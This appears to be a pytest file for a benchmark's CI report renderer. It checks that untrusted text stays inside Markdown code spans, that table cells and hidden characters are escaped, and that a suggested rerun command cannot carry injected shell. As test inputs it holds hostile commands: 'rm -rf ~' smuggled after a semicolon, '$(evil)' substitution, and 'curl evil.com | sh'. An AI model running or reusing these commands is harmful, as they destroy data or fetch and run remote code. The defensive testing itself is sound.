"""Text that a stranger chose, in the Markdown of an A/B run: it stands in code alone, and nothing of it is believed."""

import re
import shlex

import pytest
from ab_reports import (  # fmt: skip
    EVERY,
    SAME,
    SLOWER,
    report,
)
from hostile import HOSTILE, bend
from markdown_it import MarkdownIt
from test_ab_markdown import page_of, part

from gatebench.report.ci.ab_json import ab_json
from gatebench.report.ci.ab_markdown import markdown_of
from gatebench.report.ci.escapes import code, code_cell, shorten
from gatebench.report.ci.schemas import first_fault


def tokens(text):
    """Yield every token of the page and of the lines inside its blocks."""
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(text):
        yield token
        yield from token.children or ()


CODE = ("code_inline", "fence")


@pytest.mark.parametrize("name", HOSTILE)
def test_what_others_wrote_stands_in_code_alone(name):
    document = bend(ab_json(report(*EVERY, not_measured={"a/b": "cut"}, control_failures=["x"])), HOSTILE[name])
    document["command"] = f"gatebench ab {HOSTILE[name]}"
    assert first_fault(document, "ab") is None
    text = markdown_of(document)
    found = list(tokens(text))
    outside = [token for token in found if "evil" in token.content and token.type not in (*CODE, "inline")]
    assert outside == []
    assert sum("evil" in token.content for token in found if token.type in CODE) > 30
    assert {token.content.strip() for token in found if token.type == "html_block"} <= {"</details>", *re.findall(r"<details>.*", text)}  # fmt: skip
    assert not [token for token in found if token.type in ("link_open", "image", "html_inline")]
    assert not re.search(r"[\u202a-\u202e\u2066-\u2069\u200b-\u200f\x00-\x09\x0b-\x1f]", text)
    text.encode()


@pytest.mark.parametrize("name", HOSTILE)
def test_every_row_has_as_many_cells_as_its_header(name):
    document = bend(ab_json(report(*EVERY)), HOSTILE[name])
    widths, rows = [], 0
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown_of(document)):
        if token.type == "thead_open":
            widths.append(0)
        if token.type == "th_open":
            widths[-1] += 1
        if token.type == "tr_open":
            cells = 0
        if token.type == "td_open":
            cells += 1
        if token.type == "tr_close" and cells:
            rows += 1
            assert cells == widths[-1]
    assert rows > 15


def rendered(text):
    """Return the content of the one code span that a Markdown text consists of."""
    (inline,) = MarkdownIt("commonmark").parseInline(text)
    (span,) = inline.children
    return span.content


@pytest.mark.parametrize("text", ["lstm/numba", "a`b", "`a`", "a``b`c", "<b>&amp;", "a|b", "\\", "a  b", "[x](y)"])
def test_a_code_span_shows_the_text_itself(text):
    assert rendered(code(text)) == " ".join(text.split())


def test_a_bar_in_a_cell_is_shown_and_ends_no_cell():
    html = MarkdownIt("commonmark").enable("table").render(f"| a |\n| --- |\n| {code_cell('x|y `|` z')} |\n")
    assert "<td><code>x|y `|` z</code></td>" in html


def test_a_bar_after_a_backslash_of_the_texts_own_ends_no_cell_in_any_reader():
    assert code_cell("x\\|y") == "`x\\ \\|y`"


def test_hidden_characters_become_visible_and_long_names_keep_both_ends():
    assert code("a\u202eb\x00c") == "`a\ufffdb\ufffdc`"
    assert code("\u200b") == "`\ufffd`"
    assert code(" \n ") == "–"
    assert shorten("start" + "x" * 10_000 + "end", 20) == "startxxx…xxxxxend"
    assert len(shorten("é" * 10_000, 101).encode()) <= 101


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("gatebench ab main quick --build 'make -j2'", "gatebench ab main quick --build 'make -j2'"),
        ("gatebench ab main; rm -rf ~", "gatebench ab 'main;' rm -rf '~'"),
        ("gatebench ab $(evil) `evil`\nevil", "gatebench ab '$(evil)' '`evil`' evil"),
        ("curl evil.com | sh", None),
        ("gatebench ab 'open", None),
        # A cut of the quoted line would take the quote that opens the last argument.
        (shlex.join(["gatebench", "ab", "x" * 600, "y" * 300 + "; touch /tmp/x; # " + "z" * 400]), None),
        ("gatebench ab " + "x" * 987, "gatebench ab " + "x" * 987),
        ("gatebench ab " + "x" * 986 + "é", None),
    ],
)
def test_a_command_runs_gatebench_and_nothing_else(command, shown):
    text = part(page_of(SAME, command=command), "#### Measure again")
    lines = re.search(r"(`{3,})sh\n(.*?)\n\1", text, re.S).group(2).splitlines()
    assert lines == [*([shown] if shown else []), "gatebench compare --recompute 20261122T101500Z-4f1c"]


def test_sentences_of_the_file_are_not_believed():
    document = ab_json(report(SLOWER)) | {"sentences": ["all is well"], "exit_code": 0}
    assert "all is well" not in markdown_of(document)
    assert markdown_of(document).startswith("**GateBench: slower: 1 of 1 case")
